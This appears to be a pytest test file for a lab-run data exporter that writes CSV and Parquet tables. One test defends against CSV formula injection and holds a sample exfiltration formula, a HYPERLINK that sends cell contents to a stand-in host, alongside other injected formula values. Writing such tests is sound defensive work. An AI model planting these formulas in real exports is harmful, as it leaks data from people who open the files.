"""``castrig export``: tidy CSV (and Parquet with pyarrow) tables of a run, readable without castrig."""

from __future__ import annotations

import builtins
import csv
import os
import signal
from pathlib import Path

import pytest
import typer
from typer.testing import CliRunner

from castrig.errors import BadInput
from conftest import castrig, castrig_main, signal_hook, start_castrig, stopped, wait_until, with_sitecustomize
from castrig.store import RunInfo, SqliteRunStore
from castrig.store.export import export_run, format_bound, verdict_rows

VERDICT = {
    "grades": {
        "claim1": {"checks": [
            {"metric": "opening_ratio", "bound": {"min": 0.3}, "measured": 0.42, "margin": 0.12, "pass": True},
            {"metric": "mean_pore_diameter_um", "bound": {"min": 1.0, "max": 7.0}, "measured": 8.0, "margin": -1.0,
             "pass": False},
        ]},
    },
    "grades_met": [],
}


@pytest.fixture
def run_dir(tmp_path: Path) -> Path:
    info = RunInfo(run_id="r1", recipe_name="demo", recipe_path="d", profile_name="sim", profile_path="p",
                   software_version="t", seed=1, operator="", started_utc="2026-01-01T00:00:00Z")
    with SqliteRunStore(tmp_path / "runs").create_run(info) as rec:
        rec.add_samples(0.0, {"rh_near_pct": 45.0, "dry_flow_slpm": 1.0})
        rec.add_samples(5.0, {"rh_near_pct": 46.5, "dry_flow_slpm": 1.0})
        rec.add_event(0.0, "run_start", "runner", "recipe demo, 2 steps", {"steps": 2})
        rec.add_event(4.0, "interlock", "rh_band", 'RH "high", holding', {"action": "hold"})
        rec.save_result(6.0, "metrics", {"opening_ratio": 0.42, "pore_count": 812, "fields": {"0": {"d_um": 3.1}},
                                         "through_pore_fraction": None})
        rec.save_result(6.0, "truth", {"opening_ratio": 0.40})
        rec.save_result(6.0, "verdict", VERDICT)
        return rec.run_dir


def read_csv(path: Path) -> list[dict[str, str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.DictReader(fh))


def test_csv_tables_are_tidy(run_dir: Path, tmp_path: Path):
    files = export_run(run_dir, tmp_path / "out")
    assert sorted(p.name for p in files) == ["events.csv", "images.csv", "membranes.csv", "metrics.csv", "samples.csv", "verdict.csv"]
    samples = read_csv(tmp_path / "out" / "samples.csv")
    assert list(samples[0]) == ["run_id", "t_s", "channel", "value"]
    assert [(r["t_s"], r["channel"], float(r["value"])) for r in samples] == [
        ("0.0", "rh_near_pct", 45.0), ("0.0", "dry_flow_slpm", 1.0), ("5.0", "rh_near_pct", 46.5), ("5.0", "dry_flow_slpm", 1.0)]
    assert {r["run_id"] for r in samples} == {"r1"}
    events = read_csv(tmp_path / "out" / "events.csv")
    assert events[1]["message"] == 'RH "high", holding' and events[1]["data_json"] == '{"action": "hold"}'
    metrics = {(r["source"], r["name"]): r for r in read_csv(tmp_path / "out" / "metrics.csv")}
    assert float(metrics[("metrics", "pore_count")]["value"]) == 812
    assert float(metrics[("metrics", "fields.0.d_um")]["value"]) == 3.1  # nested → dotted name
    assert metrics[("metrics", "through_pore_fraction")]["value"] == ""  # None → empty cell
    assert float(metrics[("truth", "opening_ratio")]["value"]) == 0.40
    verdict = read_csv(tmp_path / "out" / "verdict.csv")
    assert [(r["grade"], r["metric"], r["bound"], r["pass"]) for r in verdict] == [
        ("claim1", "opening_ratio", "≥ 0.3", "True"), ("claim1", "mean_pore_diameter_um", "1 – 7", "False")]


def test_parquet_round_trips_with_pyarrow(run_dir: Path, tmp_path: Path):
    pq = pytest.importorskip("pyarrow.parquet", reason="pyarrow not installed (castrig[parquet])")
    export_run(run_dir, tmp_path / "pq", "parquet")
    samples = pq.read_table(tmp_path / "pq" / "samples.parquet").to_pylist()
    assert samples[2] == {"run_id": "r1", "t_s": 5.0, "channel": "rh_near_pct", "value": 46.5}
    metrics = pq.read_table(tmp_path / "pq" / "metrics.parquet")
    assert str(metrics.schema.field("value").type) == "double"
    verdict = pq.read_table(tmp_path / "pq" / "verdict.parquet").to_pylist()
    assert [r["pass"] for r in verdict] == [True, False]


def test_parquet_without_pyarrow_is_a_clear_bad_input(run_dir: Path, tmp_path: Path, monkeypatch):
    real_import = builtins.__import__

    def no_pyarrow(name, *args, **kwargs):  # type: ignore[no-untyped-def]
        if name == "pyarrow" or name.startswith("pyarrow."):
            raise ImportError("No module named 'pyarrow'")
        return real_import(name, *args, **kwargs)

    monkeypatch.setattr(builtins, "__import__", no_pyarrow)
    with pytest.raises(BadInput, match=r"pyarrow.*castrig\[parquet\]"):
        export_run(run_dir, tmp_path / "x", "parquet")
    assert not (tmp_path / "x").exists()


def test_bad_inputs(run_dir: Path, tmp_path: Path):
    with pytest.raises(BadInput, match="--format 'xlsx'"):
        export_run(run_dir, tmp_path / "x", "xlsx")
    with pytest.raises(BadInput, match="not a run folder"):
        export_run(tmp_path, tmp_path / "x")


def test_cli_export(run_dir: Path, tmp_path: Path):
    from castrig.cli.report import export

    app = typer.Typer()
    app.command()(export)
    app.command("noop")(lambda: None)
    result = CliRunner().invoke(app, ["export", str(run_dir), "--to", str(tmp_path / "cli")])
    assert result.exit_code == 0, result.output
    assert (tmp_path / "cli" / "samples.csv").is_file() and "samples.csv" in result.output


@pytest.mark.parametrize("check, text", [
    ({"bound": 0.3, "op": ">="}, "≥ 0.3"),
    ({"bound": [1, 7]}, "1 – 7"),
    ({"max": 2.5}, "≤ 2.5"),
    ({"bound": {"max": 0.2}}, "≤ 0.2"),
    ({}, ""),
])
def test_bounds_in_words(check, text):
    assert format_bound(check) == text


def test_verdict_shapes():
    flat = verdict_rows([{"grade": "claim2", "metric": "x", "bound": 1, "op": "le", "measured": 0.5, "margin": 0.5,
                          "passed": True}])
    assert flat == [{"grade": "claim2", "metric": "x", "bound": "≤ 1", "measured": 0.5, "margin": 0.5, "pass": True}]
    keyed = verdict_rows({"claim3": {"opening_ratio": {"min": 0.3, "measured": 0.2, "margin": -0.1, "ok": False}}})
    assert keyed == [{"grade": "claim3", "metric": "opening_ratio", "bound": "≥ 0.3", "measured": 0.2, "margin": -0.1,
                      "pass": False}]


@pytest.mark.parametrize("fmt", ["csv", "parquet"])
def test_a_run_without_membranes_exports_every_table(tmp_path: Path, fmt: str, request: pytest.FixtureRequest, capsys):
    """A purge-only run (or one that crashed before its first cast) exported only samples, events
    and metrics: exports of many runs, concatenated table by table, then missed two files. Every
    table is written, with its header when it has no rows. (The exports through the CLI's entry
    point in this process, conftest ``castrig_main``.)"""
    recipe = tmp_path / "purge.yaml"
    recipe.write_text("name: purge\nconcentration_mg_ml: 5.0\nsupport_pore_um: 5.0\nsteps:\n  - {type: purge, duration_s: 60}\n")
    assert castrig("run", str(recipe), "--data", str(tmp_path / "runs"), "-q").returncode == 0
    (run,) = [p for p in (tmp_path / "runs").iterdir() if p.is_dir()]
    done = castrig_main(capsys, "export", str(run), "--to", str(tmp_path / "out"), "--format", fmt)
    assert done.returncode == 0, done.stderr
    assert sorted(p.name for p in (tmp_path / "out").iterdir()) == sorted(
        f"{t}.{fmt}" for t in ("samples", "events", "metrics", "verdict", "membranes", "images"))
    if fmt == "csv":
        with open(tmp_path / "out" / "membranes.csv", newline="") as f:
            rows = list(csv.reader(f))
        assert rows[0][:2] == ["run_id", "membrane_id"] and rows[0][-2:] == ["intended_use", "made_utc"] and len(rows) == 1
    else:  # the same schema as a run with membranes: the tables of both concatenate (review)
        import pyarrow as pa
        import pyarrow.parquet as pq

        # a run with membranes: the session's finished demo run (it was a demo-short run of its own)
        demo_root, demo_id = request.getfixturevalue("finished_demo_run")
        full = demo_root / demo_id
        assert castrig_main(capsys, "export", str(full), "--to", str(tmp_path / "out2"), "--format", fmt).returncode == 0
        for table in ("verdict", "membranes"):
            empty, made = (pq.read_table(tmp_path / d / f"{table}.parquet") for d in ("out", "out2"))
            assert made.num_rows and pa.concat_tables([made, empty]).num_rows == made.num_rows, table


def test_csv_text_a_spreadsheet_would_run_as_a_formula_is_quoted(tmp_path: Path, capsys):
    """An outside tester: a file named ``=HYPERLINK(…)`` given to a run, or a hand-edited recipe
    name, reached events.csv as it was, and Excel or LibreOffice opening the export ran it (a
    link that sends the cell's neighbours away, or a DDE command). Text starting as a formula
    gets a leading ``'``; numbers, negative ones too, stay numbers."""
    import sqlite3

    info = RunInfo(run_id="r1", recipe_name="=1+1", recipe_path="d", profile_name="sim", profile_path="p",
                   software_version="t", seed=1, operator="", started_utc="2026-01-01T00:00:00Z")
    with SqliteRunStore(tmp_path / "runs").create_run(info) as rec:
        rec.add_samples(0.0, {"temperature_c": -4.5})
        rec.add_event(0.0, "capture", "camera", '=HYPERLINK("http://example.invalid/?"&A1,"open")', {})
        run_dir = rec.run_dir
    with sqlite3.connect(run_dir / "run.sqlite") as db:  # what a hand edit or another tool may leave
        db.execute("INSERT INTO events (t_s, kind, source, message, data_json) VALUES (1, 'note', '@SUM(1)', '-2+3', '{}')")
    done = castrig_main(capsys, "export", str(run_dir), "--to", str(tmp_path / "x"))
    assert done.returncode == 0, done.stderr
    events = read_csv(tmp_path / "x" / "events.csv")
    assert [e["message"] for e in events] == ['\'=HYPERLINK("http://example.invalid/?"&A1,"open")', "'-2+3"]
    assert events[1]["source"] == "'@SUM(1)"
    assert read_csv(tmp_path / "x" / "samples.csv")[0]["value"] == "-4.5"
    again = castrig_main(capsys, "export", str(run_dir), "--to", str(tmp_path / "x"))  # its own tables: replaced, not refused
    assert again.returncode == 0, again.stderr


#: A sitecustomize: ``$SIGNAL_AT_TEMP`` (SIGKILL, SIGSTOP) as the first table's temporary is made,
#: before a byte of it is written -- an export killed (or stopped) mid-write, at a seeded moment.
SIGNAL_AT_TEMP = signal_hook("castrig.atomic:file_mode", "SIGNAL_AT_TEMP")


def test_an_export_killed_mid_write_leaves_nothing_a_later_export_keeps(run_dir: Path, tmp_path: Path, reap):
    """`castrig export RUN --to out` killed -9 while writing left `out/.samples.csv.XXXX.tmp` for
    ever: a later export wrote its tables beside it and said nothing. Now the later export removes
    (and names) a dead exporter's temporary, and never the one of an export still alive (here
    stopped, SIGSTOP, holding it): that one finishes its tables when continued. The same for
    `castrig report` in the run folder."""
    out = tmp_path / "out"
    live = reap(start_castrig("export", str(run_dir), "--to", str(out), SIGNAL_AT_TEMP="SIGSTOP",
                              **with_sitecustomize(tmp_path, SIGNAL_AT_TEMP)))
    wait_until(lambda: stopped(live.pid), what="the live export stopped")
    killed = castrig("export", str(run_dir), "--to", str(out), SIGNAL_AT_TEMP="SIGKILL",
                     **with_sitecustomize(tmp_path, SIGNAL_AT_TEMP))
    assert killed.returncode == -9
    temps = sorted(p.name for p in out.glob(".samples.csv.*.tmp"))
    assert len(temps) == 2, temps  # the dead one's and the live one's

    again = castrig("export", str(run_dir), "--to", str(out))
    assert again.returncode == 0, again.stderr
    left = [p.name for p in out.glob(".*.tmp")]
    assert len(left) == 1 and left[0] in temps, left  # the live export's, kept
    (dead,) = set(temps) - set(left)
    assert f"removed {out / dead}" in " ".join(again.stderr.split()) and "killed while writing" in again.stderr
    assert len(read_csv(out / "samples.csv")) == 4

    os.kill(live.pid, signal.SIGCONT)  # the live export goes on: its temporary was its own to the end
    _, err = live.communicate(timeout=30)
    assert live.returncode == 0, err
    assert sorted(p.name for p in out.iterdir()) == ["events.csv", "images.csv", "membranes.csv", "metrics.csv", "samples.csv", "verdict.csv"]

    # a report killed so left `.report.html.*.tmp` in the run folder itself (what a dead writer
    # leaves: a temporary nobody holds): the next report removes it
    from castrig.report import build_report

    (run_dir / ".report.html.x1y2z3ab.tmp").write_text("<html")
    build_report(run_dir)
    assert not list(run_dir.glob(".*.tmp")) and (run_dir / "report.html").is_file()
